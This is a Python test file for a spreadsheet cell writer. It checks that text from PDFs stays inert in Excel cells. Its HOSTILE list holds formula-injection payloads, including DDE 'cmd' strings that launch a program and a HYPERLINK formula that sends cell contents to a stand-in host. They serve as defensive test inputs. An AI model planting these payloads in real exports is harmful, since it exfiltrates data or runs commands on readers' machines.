"""Text from a PDF in a cell: it stays text, whatever it says."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.utils.escape import unescape

from review.sheets.cells import CELL_LIMIT, CellKind, add_styles, cell_at, clean_text, put

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://malo.example/?"&A1,"ver")',
    "=cmd|'/C calc'!A0",
    "+573001234567",
    "-5+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "{=1+1}",
    "＝1+1",
    "http://malo.example",
    "#REF!",
    "TRUE",
    "2026-06-30",
    "0012345678",
    "1E5",
    "<b>&amp;</b>",
    "]]>",
    "_x0041_",
    "_x005F_x0041_",
    "  con espacios  ",
]


def written(values: list[object], kind: CellKind = CellKind.TEXT) -> Workbook:
    """A workbook with the values in column A, written and read back."""
    workbook = Workbook()
    add_styles(workbook)
    for row, value in enumerate(values, 1):
        put(cell_at(workbook.worksheets[0], row, 1), value, kind)
    saved = io.BytesIO()
    workbook.save(saved)
    return load_workbook(saved)


@pytest.mark.parametrize("kind", [CellKind.TEXT, CellKind.ID, CellKind.MONEY, CellKind.DATE])
def test_hostile_text_stays_text(kind: CellKind) -> None:
    sheet = written(list(HOSTILE), kind).worksheets[0]
    for row, text in enumerate(HOSTILE, 1):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s"
        assert unescape(cell.value) == clean_text(text)
        assert cell.hyperlink is None


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a"])
def test_text_that_begins_like_a_formula_stays_text_when_edited(text: str) -> None:
    assert written([text]).worksheets[0]["A1"].quotePrefix


def test_ordinary_text_has_no_quote_mark() -> None:
    assert not written(["Bancolombia"]).worksheets[0]["A1"].quotePrefix


@given(st.text())
def test_any_text_survives(text: str) -> None:
    """Whatever the text, the cell is no formula and holds it without its control characters."""
    cell = written([text]).worksheets[0]["A1"]
    assert cell.data_type != "f"
    assert unescape(cell.value or "") == clean_text(text)


@given(st.text(st.characters(codec="utf-8", exclude_categories=["C", "Zl", "Zp"])))
def test_text_without_control_characters_is_not_touched(text: str) -> None:
    assert clean_text(text) == text


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("uno\r\ndos\rtres\x85cuatro\u2028cinco", "uno\ndos\ntres\ncuatro\ncinco"),
        ("a\tb", "a b"),
        ("a\x00\x07\x1b\x7f\x9fb", "ab"),
        ("$ 1\u202e000.9\u202c", "$ 1000.9"),
        ("a\ud800\ufffe\uffffb", "ab"),
        ("ñandú 😀 عربى", "ñandú 😀 عربى"),
    ],
)
def test_clean_text(text: str, clean: str) -> None:
    assert clean_text(text) == clean


@pytest.mark.parametrize("letter", ["a", "ñ", "😀"])
def test_too_long_text_is_cut_with_an_ellipsis(letter: str) -> None:
    cut = clean_text(letter * CELL_LIMIT)
    units = len(cut.encode("utf-16-le")) // 2
    assert units <= CELL_LIMIT
    assert units >= CELL_LIMIT - 1
    assert cut.endswith("…") == (letter == "😀")
    assert clean_text(letter * CELL_LIMIT + "b").endswith("…")
    assert clean_text(cut) == cut


def test_ids_keep_their_zeros() -> None:
    cell = written(["000123"], CellKind.ID).worksheets[0]["A1"]
    assert (cell.value, cell.data_type, cell.number_format) == ("000123", "s", "@")


def test_numbers_and_dates_are_real() -> None:
    sheet = written(
        [1_800_000, dt.date(2026, 6, 30), dt.datetime.fromisoformat("2026-06-30T09:00")], CellKind.MONEY
    ).worksheets[0]
    assert sheet["A1"].value == 1_800_000
    assert '"$" #,##0' in sheet["A1"].number_format
    assert [sheet[at].is_date for at in ("A2", "A3")] == [True, True]
    assert sheet["A2"].value == sheet["A3"].value == dt.datetime.fromisoformat("2026-06-30")


def test_a_date_excel_cannot_hold_is_told_as_text() -> None:
    assert written([dt.date(1026, 5, 1)], CellKind.DATE).worksheets[0]["A1"].value == "1026-05-01"


def test_a_missing_value_leaves_the_cell_empty() -> None:
    assert written([None]).worksheets[0]["A1"].value is None
